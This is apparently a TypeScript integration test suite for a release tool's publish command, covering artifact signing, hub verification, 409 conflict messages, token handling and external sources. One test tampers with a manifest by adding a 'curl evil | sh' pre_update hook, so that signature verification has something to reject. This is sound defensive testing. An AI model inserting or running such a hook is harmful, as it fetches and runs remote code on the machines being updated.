import { createHash } from "node:crypto";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sha256Text } from "../../../agent/release/sign-artifact.js";
import { type RunningHub, startHub } from "../../../hub/server.js";
import type { ReleaseRecord } from "../../../hub/store/store.js";
import type { Trust } from "../../../shared/config/schema.js";
import { memoryLogger } from "../../../shared/log.js";
import { generateKeyPair } from "../../../shared/signing/keys.js";
import type { SignatureFailure } from "../../../shared/signing/signature.js";
import { verifyReleaseTrust } from "../../../shared/signing/trust.js";
import { runRelease } from "./run-cli.js";

interface Sig {
  keyId: string;
}
const sha = (b: Buffer | string): string => createHash("sha256").update(b).digest("hex");

describe("ship release publish (real hub)", () => {
  let dir: string;
  let hub: RunningHub;
  let ci: string;
  const get = async (path: string): Promise<Response> =>
    fetch(`${hub.url}/api/v1${path}`, { headers: { authorization: `Bearer ${ci}` } });

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), "ship-publish-"));
    hub = await startHub({
      host: "127.0.0.1",
      port: 0,
      dataDir: join(dir, "hub"),
      pingIntervalMs: 60_000,
      offlineTimeoutMs: 60_000,
      tickIntervalMs: 1000,
      maxArtifactBytes: 10 << 20,
      maxPayloadBytes: 64 << 10,
      log: memoryLogger(),
    });
    ci = (await hub.tokens.issue({ role: "ci", ttlSeconds: 600 })).token;
    await writeFile(join(dir, "ci.token"), `${ci}\n`);
    const app = join(dir, "myapp");
    await mkdir(join(app, "src"), { recursive: true });
    await writeFile(join(app, "src/main.py"), "print('v1')\n");
  });
  afterAll(async () => {
    await hub.close();
    await rm(dir, { recursive: true, force: true });
  });

  it("build → sign → publish: the hub holds the artifact, manifest and signature agents verify", async () => {
    const app = join(dir, "myapp");
    expect((await runRelease(app, "http", "1.0.0", "First", "--out", "../dist")).code).toBe(0);
    expect((await runRelease(app, "keygen", "--out", "../keys")).code).toBe(0);
    const artifact = join(dir, "dist/myapp-1.0.0.tar.gz");
    expect((await runRelease(app, "sign", artifact, "--key", "../keys/ship-release.key")).code).toBe(0);
    const published = await runRelease(
      app,
      "--json",
      "publish",
      ...["--hub", hub.url, "--token-file", join(dir, "ci.token"), "--app", "myapp", "--version", "1.0.0"],
      ...["--artifact", artifact, "--signature", `${artifact}.sig`],
    );
    expect(published.err).toBe("");
    expect(published.code).toBe(0);
    const { id } = JSON.parse(published.out) as { id: string };

    const release = (await (await get(`/releases/${id}`)).json()) as ReleaseRecord;
    const bytes = await readFile(artifact);
    expect(release.source).toEqual({ type: "hub", sha256: sha(bytes) });
    const downloaded = Buffer.from(await (await get(`/artifacts/${sha(bytes)}`)).arrayBuffer());
    expect(downloaded.equals(bytes)).toBe(true);

    // What an agent with [trust] does with what the hub hands it.
    const trust: Trust = {
      keys: [],
      key_files: [join(dir, "keys/ship-release.pub")],
      allow_downgrade: false,
    };
    const genuine = {
      trust,
      signature: release.signature,
      app: "myapp",
      version: "1.0.0",
      artifactSha256: sha(downloaded),
      manifestSha256: sha256Text(release.manifest),
    };
    expect(await verifyReleaseTrust(genuine)).toMatchObject({ verified: true });
    const refusals: [Partial<typeof genuine>, SignatureFailure][] = [
      [{ artifactSha256: sha("tampered artifact") }, "artifact_mismatch"],
      [
        { manifestSha256: sha256Text(`${release.manifest}hooks: {pre_update: ["curl evil | sh"]}\n`) },
        "manifest_mismatch",
      ],
      [{ version: "1.0.1" }, "version_mismatch"],
      [{ signature: null }, "unsigned"],
      [
        { trust: { keys: [generateKeyPair().publicKeyPem], key_files: [], allow_downgrade: false } },
        "unknown_key",
      ],
    ];
    for (const [change, reason] of refusals) {
      await expect(verifyReleaseTrust({ ...genuine, ...change })).rejects.toMatchObject({ reason });
    }
  });

  // node-tar lists nothing from bytes that are no tar (a text file, a .zip, a cut-off download):
  // publish said "has no update-manifest.yaml", and with --manifest it uploaded and registered
  // it, exit 0, for every agent of the rollout to fail on; `sign --manifest` signed it.
  it("refuses an --artifact no agent can unpack, with or without --manifest, before the hub stores it", async () => {
    const app = join(dir, "myapp");
    await writeFile(join(app, "update-manifest.yaml"), 'version: "3.0.0"\n');
    const good = await readFile(join(dir, "dist/myapp-1.0.0.tar.gz"));
    const bad: Record<string, Buffer> = {
      "text.tar.gz": Buffer.from("<html>login</html>\n"),
      "cut.tar.gz": good.subarray(0, good.length - 40),
    };
    for (const [name, bytes] of Object.entries(bad)) {
      const artifact = join(dir, name);
      await writeFile(artifact, bytes);
      for (const manifest of [[], ["--manifest", "update-manifest.yaml"]]) {
        const r = await runRelease(
          app,
          "publish",
          ...[
            "--hub",
            hub.url,
            "--token-file",
            join(dir, "ci.token"),
            "--app",
            "myapp",
            "--version",
            "3.0.0",
          ],
          ...["--artifact", artifact, ...manifest],
        );
        expect(r.code).toBe(2);
        // In the agents' words, which say what the file is (a page here).
        expect(r.err).toContain(`${artifact}: not a valid tar archive: `);
      }
      expect((await get(`/artifacts/${sha(bytes)}`)).status).toBe(404);
      const signed = await runRelease(
        app,
        "sign",
        artifact,
        "--key",
        "../keys/ship-release.key",
        "--manifest",
        "update-manifest.yaml",
      );
      expect(signed.code).toBe(2);
      expect(signed.err).toContain(`${artifact}: not a valid tar archive: `);
      await expect(readFile(`${artifact}.sig`)).rejects.toThrow();
    }
    const releases = (await (await get("/releases?app=myapp")).json()) as unknown;
    expect(JSON.stringify(releases)).not.toContain('"3.0.0"');
  });

  it("exits non-zero with the hub's reason when the hub refuses; the same release again is exit 0", async () => {
    const app = join(dir, "myapp");
    const args = ["--hub", hub.url, "--app", "myapp", "--version", "1.0.0"];
    const artifact = ["--artifact", join(dir, "dist/myapp-1.0.0.tar.gz")];
    const ci = ["--token-file", join(dir, "ci.token")];
    // 1.0.0 was published signed: the same archive unsigned is another release under its version.
    const unsigned = await runRelease(app, "publish", ...args, ...ci, ...artifact);
    expect(unsigned.code).toBe(2);
    // Which of the two is signed, by which key, and what helps: "its signature differs" said neither.
    const keyId = (JSON.parse(await readFile(join(dir, "dist/myapp-1.0.0.tar.gz.sig"), "utf8")) as Sig).keyId;
    expect(unsigned.err).toMatch(
      new RegExp(
        `HTTP 409.*; it is signed \\(key ${keyId}\\) and this one is not\\); versions are immutable: to publish the same release again send the signature it was published with \\(--signature\\)`,
      ),
    );
    // The same release again (a CI job retried after a timeout lost the hub's answer): done, exit 0.
    const signature = ["--signature", join(dir, "dist/myapp-1.0.0.tar.gz.sig")];
    const again = await runRelease(app, "publish", ...args, ...ci, ...artifact, ...signature);
    expect(again.code, again.err).toBe(0);
    expect(again.out).toMatch(
      /^myapp 1\.0\.0 \(signed\) was published already as release \S+, with the same manifest, source and signature: nothing changed$/m,
    );
    const json = await runRelease(app, "--json", "publish", ...args, ...ci, ...artifact, ...signature);
    expect(json.code, json.err).toBe(0);
    expect(JSON.parse(json.out)).toMatchObject({ version: "1.0.0", alreadyPublished: true });
    // An argument is readable by every local user (ps) while publish runs: warned, on stderr,
    // JSON with --json; --token-file (above) is not.
    expect(again.err).not.toContain("--token puts");
    const ciToken = (await readFile(join(dir, "ci.token"), "utf8")).trim();
    const warning =
      "--token puts the ci token in the process list (ps), where every local user can read it; use --token-file (chmod 600) instead";
    const inPs = await runRelease(
      app,
      "--json",
      "publish",
      ...args,
      "--token",
      ciToken,
      ...artifact,
      ...signature,
    );
    expect(inPs.code, inPs.err).toBe(0);
    expect(inPs.err.split("\n")).toContain(JSON.stringify({ warning }));
    expect(inPs.err).not.toContain(ciToken);
    const text = await runRelease(app, "publish", ...args, "--token", ciToken, ...artifact, ...signature);
    expect(text.err.split("\n")).toContain(`warning: ${warning}`);
    const badToken = await runRelease(app, "publish", ...args, "--token", "not-a-jwt", ...artifact);
    expect(badToken.code).toBe(2);
    expect(badToken.err).toMatch(/HTTP 401/);
    expect(badToken.err).not.toContain("not-a-jwt");
    const down = await runRelease(
      app,
      "publish",
      "--hub",
      "http://127.0.0.1:1",
      ...args.slice(2),
      "--token",
      "t",
      ...artifact,
    );
    expect(down.code).toBe(1);
    expect(down.err).toMatch(
      /cannot reach the hub at http:\/\/127\.0\.0\.1:1: connection refused \(ECONNREFUSED\)\n$/,
    );
  });

  it("a 409 says which release is signed, by which key, or where the manifests part, and what to do", async () => {
    const app = join(dir, "myapp");
    const publishArgs = (version: string, ...more: string[]) => [
      ...["publish", "--hub", hub.url, "--token-file", join(dir, "ci.token"), "--app", "myapp"],
      ...["--version", version, "--artifact", join(dir, `dist/myapp-${version}.tar.gz`), ...more],
    ];
    const publish = (version: string, ...more: string[]) => runRelease(app, ...publishArgs(version, ...more));
    expect((await runRelease(app, "http", "1.1.0", "Second", "--out", "../dist")).code).toBe(0);
    expect((await publish("1.1.0")).code).toBe(0);
    const artifact = join(dir, "dist/myapp-1.1.0.tar.gz");
    expect((await runRelease(app, "sign", artifact, "--key", "../keys/ship-release.key")).code).toBe(0);
    const sig = JSON.parse(await readFile(`${artifact}.sig`, "utf8")) as Sig;
    // Published unsigned, then signed: the version is spent, the signed build needs another.
    const signed = await publish("1.1.0", "--signature", `${artifact}.sig`);
    expect(signed.code).toBe(2);
    expect(signed.err).toContain(
      `; it is unsigned and this one is signed (key ${sig.keyId})); versions are immutable: a release is never signed after it is published: publish this build under a new version, signed\n`,
    );
    // Signed with a rotated key, over a release held signed by the old one.
    expect((await runRelease(app, "keygen", "--out", "../keys2")).code).toBe(0);
    expect((await publish("1.0.0")).code).toBe(2);
    const rotatedSig = join(dir, "dist/rotated.sig");
    const key2 = ["--key", "../keys2/ship-release.key", "--out", rotatedSig];
    expect((await runRelease(app, "sign", join(dir, "dist/myapp-1.0.0.tar.gz"), ...key2)).code).toBe(0);
    const newKey = (JSON.parse(await readFile(rotatedSig, "utf8")) as Sig).keyId;
    const rotated = await publish("1.0.0", "--signature", rotatedSig);
    expect(rotated.code).toBe(2);
    expect(rotated.err).toMatch(
      new RegExp(
        `; it is signed with key ${sig.keyId} and this one with key ${newKey}\\); versions are immutable: .*\\[trust\\] lists both`,
      ),
    );
    // Rebuilt with another description (another day's CI run, in a fresh workspace: an --out that
    // still held 1.1.0 would refuse other bytes under it): where the manifests part.
    await rm(artifact);
    expect((await runRelease(app, "http", "1.1.0", "Second, again", "--out", "../dist")).code).toBe(0);
    const rebuilt = await publish("1.1.0");
    expect(rebuilt.code).toBe(2);
    // With --json the refusal is JSON on stdout too, as a usage error's is (stdout was empty).
    const json = await runRelease(app, "--json", ...publishArgs("1.1.0"));
    expect(json.code).toBe(2);
    expect(JSON.parse(json.out)).toEqual({
      exitCode: 2,
      message: json.err.trim(),
      error: json.err.trim().replace(/^ship release publish: /, ""),
    });
    expect(rebuilt.err).toMatch(
      /; its manifest differs \(line \d+: "description: \\"Second\\"" there, "description: \\"Second, again\\"" here\); its source differs \(hub artifact sha256 [0-9a-f]{64} there, hub artifact sha256 [0-9a-f]{64} here\)\); versions are immutable: publish this build under a new version\n/,
    );
  });

  // A version the hub holds is answered before the archive goes: a rebuild under it was a 409
  // only after the whole upload, which the hub then kept unused for a day; a retry uploaded again.
  it("asks the hub before uploading: a held version's 409, a retry, a refused token or manifest sends no archive", async () => {
    const app = join(dir, "myapp");
    const artifact = join(dir, "dist/myapp-4.2.0.tar.gz");
    const args = [
      "publish",
      "--hub",
      hub.url,
      "--app",
      "myapp",
      "--version",
      "4.2.0",
      "--artifact",
      artifact,
    ];
    const publish = (...more: string[]) =>
      runRelease(app, ...args, "--token-file", join(dir, "ci.token"), ...more);
    const uploads = async (status: number): Promise<number> => {
      const text = await (await fetch(`${hub.url}/metrics`)).text();
      const line = text
        .split("\n")
        .find(
          (l) =>
            l.startsWith("ship_hub_http_request_duration_seconds_count{") &&
            l.includes('method="PUT"') &&
            l.includes('route="/api/v1/artifacts"') &&
            l.includes(`status="${status}"`),
        );
      return line === undefined ? 0 : Number(line.split(" ").at(-1));
    };
    expect((await runRelease(app, "http", "4.2.0", "Third", "--out", "../dist")).code).toBe(0);
    const stored = await uploads(201);
    expect((await publish()).code).toBe(0);
    expect(await uploads(201)).toBe(stored + 1);
    const again = await publish();
    expect(again.code, again.err).toBe(0);
    expect(again.out).toMatch(/^myapp 4\.2\.0 \(unsigned\) was published already as release \S+/m);
    // Rebuilt on another day (a fresh workspace): the 409 names where the two part, and the hub got no copy of it.
    await rm(artifact);
    expect((await runRelease(app, "http", "4.2.0", "Third, again", "--out", "../dist")).code).toBe(0);
    const rebuilt = await publish();
    expect(rebuilt.code).toBe(2);
    expect(rebuilt.err).toMatch(
      /HTTP 409\): release myapp 4\.2\.0 exists \(release \S+, .*; its manifest differs \(line \d+: "description: \\"Third\\"" there, "description: \\"Third, again\\"" here\); its source differs .*versions are immutable: publish this build under a new version\n/,
    );
    const rebuiltSha = sha(await readFile(artifact));
    expect((await get(`/artifacts/${rebuiltSha}`)).status).toBe(404);
    // A token the hub refuses is told before the archive is sent.
    const refused = await runRelease(app, ...args, "--token", "not-a-jwt");
    expect(refused.code).toBe(2);
    expect(refused.err).toMatch(
      /^ship release publish: POST \/api\/v1\/releases: the hub refused \(HTTP 401\)/m,
    );
    // A manifest the hub refuses (over its 64 KiB) is said before the archive goes too.
    const big = join(dir, "bigapp");
    await mkdir(join(big, "src"), { recursive: true });
    await writeFile(join(big, "src/main.py"), "print('big')\n");
    expect((await runRelease(big, "manifest", "1.0.0")).code).toBe(0);
    const padding = Array.from({ length: 1200 }, (_, i) => `# note ${i} ${"x".repeat(60)}\n`).join("");
    await writeFile(join(big, "update-manifest.yaml"), padding, { flag: "a" });
    expect((await runRelease(big, "http", "1.0.0", "Big", "--out", "../dist")).code).toBe(0);
    const bigArtifact = join(dir, "dist/bigapp-1.0.0.tar.gz");
    const tooBig = await runRelease(
      big,
      ...["publish", "--hub", hub.url, "--token-file", join(dir, "ci.token"), "--app", "bigapp"],
      ...["--version", "1.0.0", "--artifact", bigArtifact],
    );
    expect(tooBig.code).toBe(2);
    expect(tooBig.err).toMatch(/HTTP 400\): body\.manifest: manifest is .* over the limit of 64 KiB/);
    expect((await get(`/artifacts/${sha(await readFile(bigArtifact))}`)).status).toBe(404);
    expect(await uploads(201)).toBe(stored + 1);
    expect(await uploads(401)).toBe(0);
    // The check stores nothing, and a misspelt one is refused rather than taken as a publish.
    const post = (query: string) =>
      fetch(`${hub.url}/api/v1/releases${query}`, {
        method: "POST",
        headers: { authorization: `Bearer ${ci}`, "content-type": "application/json" },
        body: JSON.stringify({
          app: "checked",
          version: "1.0.0",
          manifest: 'version: "1.0.0"\n',
          source: { type: "https", url: "https://example.com/checked.tar.gz", sha256: "b".repeat(64) },
        }),
      });
    const check = await post("?dry_run=true");
    expect(await check.json()).toEqual({ dry_run: true });
    const misspelt = await post("?dryrun=true");
    expect(misspelt.status).toBe(400);
    expect(((await misspelt.json()) as { error: string }).error).toMatch(
      /^query\.dryrun: unknown key \(did you mean "dry_run"\?\)/,
    );
    expect(await (await get("/releases?app=checked")).json()).toMatchObject({ releases: [] });
  });

  // The same signature spelt otherwise (a .sig posted by curl as written, then re-serialised by
  // `ship release publish`) is the same release: 200, not a 409 for its own signature.
  it("the same signature in another spelling is the release published already", async () => {
    const held = (await (await get("/releases?app=myapp&version=1.0.0")).json()) as {
      releases: ReleaseRecord[];
    };
    const release = held.releases[0] as ReleaseRecord;
    const respelt = JSON.stringify(JSON.parse(release.signature as string), null, 2);
    expect(respelt).not.toBe(release.signature);
    const { app, version, manifest, source } = release;
    const again = await fetch(`${hub.url}/api/v1/releases`, {
      method: "POST",
      headers: { authorization: `Bearer ${ci}`, "content-type": "application/json" },
      body: JSON.stringify({ app, version, manifest, source, signature: respelt }),
    });
    expect(again.status, await again.clone().text()).toBe(200);
    expect(((await again.json()) as { id: string }).id).toBe(release.id);
  });

  it("a UTF-16 copy of the .sig (PowerShell's '>') is read as the signature it holds: published already", async () => {
    const app = join(dir, "myapp");
    const text = await readFile(join(dir, "dist/myapp-1.0.0.tar.gz.sig"), "utf8");
    const utf16 = join(dir, "dist/myapp-1.0.0.utf16.sig");
    await writeFile(utf16, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]));
    const again = await runRelease(
      app,
      "publish",
      ...["--hub", hub.url, "--token-file", join(dir, "ci.token"), "--app", "myapp", "--version", "1.0.0"],
      ...["--artifact", join(dir, "dist/myapp-1.0.0.tar.gz"), "--signature", utf16],
    );
    expect(again.err).not.toContain("not JSON");
    expect(again.code, again.err).toBe(0);
    expect(again.out).toMatch(
      /^myapp 1\.0\.0 \(signed\) was published already as release \S+, .*nothing changed$/m,
    );
  });

  it("refuses locally a signature made for another release", async () => {
    const app = join(dir, "myapp");
    const artifact = join(dir, "dist/myapp-1.0.0.tar.gz");
    const published = await runRelease(
      app,
      "publish",
      ...["--hub", hub.url, "--token-file", join(dir, "ci.token"), "--app", "myapp", "--version", "1.0.1"],
      ...["--artifact", artifact, "--signature", `${artifact}.sig`],
    );
    expect(published.code).toBe(2);
    expect(published.err).toMatch(/version mismatch/);
  });

  it("registers an external URL or a git commit without uploading", async () => {
    const app = join(dir, "myapp");
    await writeFile(join(app, "update-manifest.yaml"), 'version: "2.0.0"\n');
    const common = ["--hub", hub.url, "--token-file", join(dir, "ci.token"), "--app", "myapp"];
    const url = await runRelease(
      app,
      "--json",
      "publish",
      ...common,
      ...["--version", "2.0.0", "--url", "https://example.com/myapp-2.0.0.tar.gz", "--sha256", sha("x")],
    );
    expect(url.code).toBe(0);
    const urlRelease = (await (
      await get(`/releases/${(JSON.parse(url.out) as { id: string }).id}`)
    ).json()) as ReleaseRecord;
    expect(urlRelease.source).toEqual({
      type: "https",
      url: "https://example.com/myapp-2.0.0.tar.gz",
      sha256: sha("x"),
    });
    await writeFile(join(app, "update-manifest.yaml"), 'version: "2.0.2"\n');
    const viaSftp = await runRelease(
      app,
      ...["--json", "publish", ...common, "--version", "2.0.2"],
      ...["--remote-path", "/releases/myapp-2.0.2.tar.gz", "--sha256", sha("y")],
    );
    expect(viaSftp.code).toBe(0);
    const sftpId = (JSON.parse(viaSftp.out) as { id: string }).id;
    const sftpRelease = (await (await get(`/releases/${sftpId}`)).json()) as ReleaseRecord;
    expect(sftpRelease.source).toEqual({
      type: "sftp",
      remote_path: "/releases/myapp-2.0.2.tar.gz",
      sha256: sha("y"),
    });
    await writeFile(join(app, "update-manifest.yaml"), 'version: "2.0.1"\n');
    const commit = "a".repeat(40);
    const git = await runRelease(
      app,
      "--json",
      "publish",
      ...common,
      "--version",
      "2.0.1",
      "--git-commit",
      commit,
      "--git-tag",
      "v2.0.1",
    );
    expect(git.code).toBe(0);
    const gitRelease = (await (
      await get(`/releases/${(JSON.parse(git.out) as { id: string }).id}`)
    ).json()) as ReleaseRecord;
    expect(gitRelease.source).toEqual({ type: "git", commit, tag: "v2.0.1" });
    expect(gitRelease.manifest).toBe('version: "2.0.1"\n');
  });
});
